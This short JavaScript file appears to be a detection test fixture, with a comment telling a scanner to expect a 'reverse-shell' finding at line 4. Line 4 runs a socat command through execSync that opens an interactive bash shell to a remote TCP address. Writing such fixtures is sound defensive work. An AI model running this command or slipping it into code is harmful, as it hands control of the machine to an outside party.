// expect: reverse-shell 4:11
const { execSync } = require('child_process');

execSync('socat exec:"bash -li",pty,stderr,setsid tcp:10.0.0.1:4242');
